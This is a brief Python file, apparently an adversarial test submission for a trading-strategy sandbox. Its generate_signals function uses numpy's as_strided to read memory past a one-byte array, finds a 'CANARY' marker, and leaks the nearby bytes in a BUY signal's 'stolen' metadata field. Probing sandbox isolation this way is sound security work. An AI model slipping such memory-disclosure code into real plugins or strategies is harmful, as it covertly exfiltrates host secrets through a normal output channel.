# An array that ends long after its memory.
import numpy as np


def generate_signals(data, parameters):
    seen = np.lib.stride_tricks.as_strided(np.zeros(1, dtype=np.uint8), shape=(1 << 16,), strides=(1,))
    text = seen.tobytes()
    at = text.find(b"CANARY")
    return [{"symbol": "BTCUSDT", "action": "BUY", "metadata": {"stolen": text[at : at + 100].hex() if at >= 0 else ""}}]
